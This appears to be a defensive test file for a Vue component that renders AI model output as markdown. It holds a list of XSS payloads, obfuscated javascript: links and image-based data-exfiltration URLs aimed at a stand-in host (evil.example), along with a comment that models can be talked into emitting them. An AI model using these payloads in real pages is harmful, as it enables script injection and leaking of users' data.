import fc from 'fast-check'
import { createApp, h, nextTick } from 'vue'
import { describe, expect, test } from 'vitest'
import MarkdownText from './MarkdownText.vue'
import { hostOf, inlineImage, safeLink } from './safe-url.ts'

/** Everything a model may be talked into writing to run a script, or to tell someone that its text was read. */
const attacks = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<style>@import "https://evil.example/x.css"</style>',
  '<link rel=stylesheet href=https://evil.example>',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<base href=https://evil.example/>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt&colon;alert(1))',
  '[x](java\tscript:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](vbscript:msgbox)',
  '[x](data:text/html;base64,PHNjcmlwdD4=)',
  '[x](//evil.example)',
  '[x](\\\\evil.example)',
  '[x](/relative)',
  '![x](https://evil.example/?q=secret)',
  '![x](javascript:alert(1))',
  '![x](data:image/svg+xml;base64,PHN2Zz4=)',
  '![x][r]\n\n[r]: https://evil.example/pixel.png',
  '<javascript:alert(1)>',
  '[![x](https://evil.example/p.png)](javascript:alert(1))',
  '[a]: javascript:alert(1)\n\n[a]',
  '| <img src=x onerror=alert(1)> |\n|--|\n| [x](javascript:1) |',
  '```html\n<script>alert(1)</script>\n```',
  '```<img/src=x onerror=alert(1)>\ncode\n```',
  '# <b onclick=alert(1)>x</b>',
  '<a href="javascript:alert(1)">x</a>',
  '`</code><script>alert(1)</script>`',
  '[x](https://ok.example "\\" onmouseover=alert(1) \\"")',
  '<x onpointerrawupdate=alert(1)>',
]

const allowedTags = new Set(
  'DIV P H3 H4 H5 H6 UL OL LI BLOCKQUOTE EM STRONG S CODE PRE BR HR A SPAN TABLE THEAD TBODY TR TH TD FIGURE FIGCAPTION BUTTON SVG PATH IMG'.split(
    ' ',
  ),
)

function expectHarmless(root: Element): void {
  for (const el of root.querySelectorAll('*')) {
    expect(allowedTags).toContain(el.tagName.toUpperCase())
    for (const { name, value } of el.attributes) {
      expect(name).not.toMatch(/^on|^srcset$|^style$|^ping$|^background$/i)
      if (name === 'src') expect(value).toMatch(/^data:image\/(png|jpeg|gif|webp);base64,/)
      if (name === 'href') {
        expect(value).toMatch(/^(https?:|mailto:)/)
        expect(el.getAttribute('rel')).toBe('noopener noreferrer nofollow')
      }
    }
  }
}

async function renderGrowing(text: string, cuts: number[], check: (root: Element) => void): Promise<string> {
  const root = document.createElement('div')
  let shown = ''
  const app = createApp({
    data: () => ({ tick: 0 }),
    render: () => h(MarkdownText, { text: shown, ended: shown === text }),
  })
  const instance = app.mount(root)
  for (const cut of [...cuts.sort((a, b) => a - b), text.length]) {
    shown = text.slice(0, cut)
    instance.$forceUpdate()
    await nextTick()
    check(root)
  }
  const rendered = root.textContent ?? ''
  app.unmount()
  return rendered
}

describe('a model’s text on the page', () => {
  test(
    'holds no node that runs, styles or fetches, at whatever point the text is cut',
    { timeout: 120_000 },
    async () => {
      await fc.assert(
        fc.asyncProperty(
          fc.array(
            fc.oneof(fc.constantFrom(...attacks), fc.constantFrom('plain\n\n', '- item\n', '> ', '\n\n', '```\n')),
            { minLength: 1, maxLength: 6 },
          ),
          fc.array(fc.nat(400), { maxLength: 12 }),
          async (parts, cuts) => {
            await renderGrowing(parts.join(''), cuts, expectHarmless)
          },
        ),
        { numRuns: 250 },
      )
    },
  )

  test.each(attacks)('every byte of %j is harmless', async (attack) => {
    await renderGrowing(
      attack,
      Array.from({ length: attack.length }, (_, i) => i),
      expectHarmless,
    )
  })

  test('shows HTML as the text it is', async () => {
    expect(await renderGrowing('a <b>c</b>', [], () => {})).toContain('a <b>c</b>')
  })

  test('a remote picture is a card that names its host and waits for a click', async () => {
    await renderGrowing('![Chart](https://img.example:8443/c.png)', [], (root) => {
      expect(root.querySelector('img')).toBeNull()
      expect(root.querySelector('a.image-card')?.textContent).toContain('img.example:8443')
    })
  })
})

test('links open only absolute http, https and mailto addresses', () => {
  expect(safeLink('https://example.com/a?b#c')).toBe('https://example.com/a?b#c')
  expect(safeLink('mailto:a@example.com')).toBe('mailto:a@example.com')
  for (const bad of [
    'javascript:1',
    ' javascript:1',
    '//x.example',
    '/x',
    'x',
    'data:text/html,x',
    'file:///etc/passwd',
    '',
    undefined,
  ])
    expect(safeLink(bad)).toBeUndefined()
})

test('the host shown is the one that would be asked', () => {
  expect(hostOf('https://good.example@evil.example/')).toBe('evil.example')
})

test('only real bitmap data is shown without asking', () => {
  expect(inlineImage('data:image/png;base64,AAAA')).toBeDefined()
  expect(inlineImage('data:image/svg+xml;base64,AAAA')).toBeUndefined()
  expect(inlineImage('https://example.com/a.png')).toBeUndefined()
})
